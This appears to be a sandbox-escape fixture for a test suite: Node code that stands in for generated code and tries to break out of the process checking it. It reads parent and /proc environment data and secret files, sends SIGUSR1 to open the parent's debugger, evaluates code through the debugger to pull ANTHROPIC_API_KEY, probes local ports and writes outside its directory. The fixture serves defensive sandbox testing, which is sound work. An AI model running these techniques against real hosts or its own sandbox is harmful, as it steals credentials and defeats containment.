// Generated code that attacks the process checking it (test/sandbox.test.ts). The
// harness puts its own pid in for the PARENT placeholder; the test puts in the config. Each
// attack's outcome goes into one JSON line on stderr, and the exit code is 3, so the
// `--help` check quotes it back in its diagnostic.
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';

const PARENT = __PARENT_PID__;
const C = __CONFIG__;
const report = {};
const attempt = async (name, fn) => {
  try {
    report[name] = await fn();
  } catch (e) {
    report[name] = `ERR ${e?.code ?? e?.message ?? e}`;
  }
};
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function tcp(port) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    let data = '';
    const done = () => {
      socket.destroy();
      resolve(`connected; got ${JSON.stringify(data.slice(0, 120))}`);
    };
    socket.setTimeout(1000, done);
    socket.on('data', (chunk) => {
      data += chunk;
      done();
    });
    socket.on('error', reject);
  });
}

// The debugger's HTTP list, then its WebSocket (hand-made: Node 20 has no WebSocket client).
async function debuggerEval(port, expression) {
  const list = await new Promise((resolve, reject) => {
    http
      .get({ host: '127.0.0.1', port, path: '/json/list', timeout: 1000 }, (res) => {
        let body = '';
        res.on('data', (d) => (body += d));
        res.on('end', () => resolve(JSON.parse(body)));
      })
      .on('error', reject)
      .on('timeout', () => reject(new Error('timeout')));
  });
  const url = new URL(list[0].webSocketDebuggerUrl);
  const socket = net.connect(port, '127.0.0.1');
  await new Promise((resolve, reject) => socket.once('connect', resolve).once('error', reject));
  socket.write(
    `GET ${url.pathname} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  return new Promise((resolve, reject) => {
    let buffer = Buffer.alloc(0);
    let upgraded = false;
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      buffer = Buffer.concat([buffer, chunk]);
      if (!upgraded) {
        const end = buffer.indexOf('\r\n\r\n');
        if (end < 0) return;
        upgraded = true;
        buffer = buffer.subarray(end + 4);
        const payload = Buffer.from(
          JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression, includeCommandLineAPI: true, returnByValue: true } }),
        );
        const mask = crypto.randomBytes(4);
        const header = payload.length < 126 ? Buffer.from([0x81, 0x80 | payload.length]) : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255]);
        socket.write(Buffer.concat([header, mask, Buffer.from(payload.map((b, i) => b ^ mask[i % 4]))]));
      }
      while (buffer.length >= 2) {
        let length = buffer[1] & 0x7f;
        let offset = 2;
        if (length === 126) {
          if (buffer.length < 4) return;
          length = buffer.readUInt16BE(2);
          offset = 4;
        } else if (length === 127) {
          if (buffer.length < 10) return;
          length = Number(buffer.readBigUInt64BE(2));
          offset = 10;
        }
        if (buffer.length < offset + length) return;
        const message = JSON.parse(buffer.subarray(offset, offset + length).toString());
        buffer = buffer.subarray(offset + length);
        if (message.id === 1) {
          socket.destroy();
          resolve(message.result?.result?.value ?? JSON.stringify(message));
        }
      }
    });
  });
}

// (1) the environment, ours and the parent's
await attempt('uid', () => process.getuid());
await attempt('env', () => process.env);
for (const path of ['/proc/1/environ', `/proc/${process.ppid}/environ`, `/proc/${PARENT}/environ`, `/proc/${PARENT}/cmdline`, '/proc/self/environ']) {
  await attempt(`read ${path.replace(String(PARENT), 'PARENT')}`, () => fs.readFileSync(path, 'latin1'));
}
await attempt('read the secret through /proc/PARENT/root', () => fs.readFileSync(`/proc/${PARENT}/root${C.secret600}`, 'utf8'));
// (2) files the parent can read
await attempt('read secret 0600', () => fs.readFileSync(C.secret600, 'utf8'));
await attempt('read secret 0644', () => fs.readFileSync(C.secret644, 'utf8'));
await attempt('list the secret directory', () => fs.readdirSync(C.secretDir));
// (3) signals: the parent (its pid as we see it, and its real pid), which would open its debugger
await attempt('SIGUSR1 to ppid', () => process.kill(process.ppid, 'SIGUSR1'));
await attempt('SIGUSR1 to PARENT', () => process.kill(PARENT, 'SIGUSR1'));
await sleep(700);
// (4) the network: the debugger, a local port, nats-server
await attempt('debugger eval', () =>
  debuggerEval(
    C.inspectPort,
    `(() => { const fs = require('fs'); fs.writeFileSync(${JSON.stringify(C.debuggerWrite)}, 'written by the debugger'); ` +
      `return process.env.ANTHROPIC_API_KEY + ' | ' + fs.readFileSync(${JSON.stringify(C.secret600)}, 'utf8'); })()`,
  ),
);
await attempt('tcp inspector port', () => tcp(C.inspectPort));
await attempt('tcp local port', () => tcp(C.localPort));
await attempt('tcp nats', () => tcp(C.natsPort));
await attempt('tcp 9229', () => tcp(9229));
// (5) writes outside its directory (and inside it)
await attempt('write outside', () => fs.writeFileSync(C.outsideWrite, 'written by generated code'));
await attempt('write /tmp', () => fs.writeFileSync(C.tmpWrite, 'written by generated code'));
await attempt('write own dir', () => fs.writeFileSync(new URL('../pwned.txt', import.meta.url), 'x'));

console.error(JSON.stringify(report));
process.exit(3);
